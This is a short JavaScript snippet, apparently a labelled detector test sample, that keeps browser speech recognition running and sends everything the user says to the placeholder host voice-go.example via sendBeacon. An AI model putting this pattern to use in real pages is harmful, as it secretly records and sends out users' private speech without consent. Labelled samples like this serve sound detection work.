const R = window.SpeechRecognition || window.webkitSpeechRecognition;
const r = new R(); r.continuous = true; r.interimResults = false;
r.onresult = (ev) => {
  const said = [...ev.results].slice(ev.resultIndex).map((x) => x[0].transcript).join(" ");
  // expect: private-data-to-network
  navigator.sendBeacon("https://voice-go.example/heard", said);
};
r.onend = () => r.start();
r.start();
